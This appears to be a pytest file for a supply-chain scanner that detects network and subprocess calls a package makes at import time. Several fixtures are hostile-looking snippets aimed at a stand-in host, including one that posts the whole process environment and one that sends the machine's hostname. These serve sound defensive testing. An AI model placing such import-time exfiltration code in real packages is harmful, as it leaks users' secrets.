"""What an import does, and what merely stands in a module."""

from __future__ import annotations

import pytest

from douane.detectors.import_side_effect import RULE
from douane.model import Artifact, Ecosystem, FileTree, Package, Severity
from douane.rules import Evidence
from douane.syntax import Codebase

SEND = "import requests\n"


def look(files: dict[str, str], *, npm: bool = False) -> list[Evidence]:
    package = Package(ecosystem=Ecosystem.NPM if npm else Ecosystem.PYPI, name="heron", version="1", path=".")
    tree = FileTree({path: text.encode() for path, text in files.items()})
    assert RULE.code
    return list(RULE.code(Codebase(Artifact(package=package, tree=tree))))


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("requests.get('https://x.invalid/v')\n", Severity.MEDIUM),
        ("import os\nrequests.post('https://x.invalid', json=dict(os.environ))\n", Severity.HIGH),
        (
            "import os\nif os.name == 'nt':\n    requests.get('https://x.invalid/' + os.getlogin())\n",
            Severity.MEDIUM,
        ),
        ("import os\nif os.getenv('ASK'):\n    requests.get('https://x.invalid/')\n", Severity.LOW),
        ("class A:\n    data = requests.get('https://x.invalid/').json()\n", Severity.MEDIUM),
        ("def go():\n    requests.get('https://x.invalid/')\n\ngo()\n", Severity.MEDIUM),
        (
            "class A:\n    def __init__(self):\n        requests.get('https://x.invalid/')\n\nA()\n",
            Severity.MEDIUM,
        ),
        ("import subprocess\nsubprocess.run(['./helper', 'x'])\n", Severity.MEDIUM),
        ("import os\nos.system('git log | ./helper')\n", Severity.MEDIUM),
    ],
)
def test_what_python_does_at_import(source: str, severity: Severity) -> None:
    (found,) = look({"heron/__init__.py": SEND + source})
    assert (found.severity or RULE.severity) is severity


@pytest.mark.parametrize(
    "source",
    [
        "def go():\n    requests.get('https://x.invalid/')\n",
        "S = requests.Session()\n",
        "if __name__ == '__main__':\n    requests.get('https://x.invalid/')\n",
        "import sys\nif len(sys.argv) > 1:\n    requests.get('https://x.invalid/')\n",
        "requests.get('http://localhost:8080/ready')\n",
        "import subprocess\nV = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
        "from pathlib import Path\n(Path.home() / '.heron' / 'x').write_text('1')\n",
        "import atexit\n\ndef bye():\n    requests.get('https://x.invalid/')\n\natexit.register(bye)\n",
        "from app import app\n\n@app.get('/')\ndef page():\n    return requests.get('https://x.invalid/')\n",
    ],
)
def test_what_python_only_defines(source: str) -> None:
    assert look({"heron/__init__.py": SEND + source}) == []


def test_a_module_counts_where_something_imports_it() -> None:
    acting = {"heron/warm.py": f"{SEND}requests.get('https://x.invalid/')\n"}
    assert look({**acting, "heron/__init__.py": "X = 1\n"}) == []
    assert len(look({**acting, "heron/__init__.py": "from heron import warm\n"})) == 1
    project = '[project.scripts]\nheron = "heron.warm:main"\n'
    assert len(look({**acting, "pyproject.toml": project})) == 1
    beacon = {
        "heron/warm.py": f"{SEND}import socket\nrequests.get('https://x.invalid/' + socket.gethostname())\n"
    }
    assert [each.severity for each in look(beacon)] == [Severity.HIGH]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("fetch('https://x.invalid/');", [1]),
        ("setTimeout(() => {\n  fetch('https://x.invalid/');\n}, 10);", [2]),
        ("(async () => {\n  await fetch('https://x.invalid/');\n})();", [2]),
        ("async function go() {\n  await fetch('https://x.invalid/');\n}\ngo().catch(() => {});", [2]),
        ("const go = () => {\n  fetch('https://x.invalid/');\n};\nprocess.nextTick(go);", [2]),
        ("exports.go = () => fetch('https://x.invalid/');", []),
        ("app.get('/', async () => fetch('https://x.invalid/'));", []),
        ("if (require.main === module) fetch('https://x.invalid/');", []),
        ("process.on('exit', () => fetch('https://x.invalid/'));", []),
        ("class A { go() { return fetch('https://x.invalid/'); } }\nnew A();", []),
    ],
)
def test_what_javascript_does_at_import(source: str, expected: list[int]) -> None:
    found = look({"package.json": '{"main": "index.js", "bin": "cli.js"}', "index.js": source}, npm=True)
    assert [each.where.line for each in found] == expected


def test_programs_are_started_and_not_imported() -> None:
    act = "fetch('https://x.invalid/');\n"
    manifest = '{"bin": {"a": "./dist/a.js"}, "main": "index.js", "scripts": {"x": "node b.js"}}'
    files = {
        "package.json": manifest,
        "dist/a.js": act,
        "src/a.ts": act,
        "b.js": act,
        "c.js": f"#!/x/node\n{act}",
    }
    assert (
        look({**files, "index.js": "require('./dist/a'); require('./b'); require('./c');\n"}, npm=True) == []
    )
    assert look({"package.json": "{}", "test/x.js": act, "dist/client/y.js": act}, npm=True) == []


@pytest.mark.parametrize("source", ["", "f(" * 300, "go();" * 5_000, "function go() { go(); }\ngo();\nfetch"])
def test_odd_code_does_no_harm(source: str) -> None:
    assert look({"index.js": source + "\n// fetch\n"}, npm=True) == []
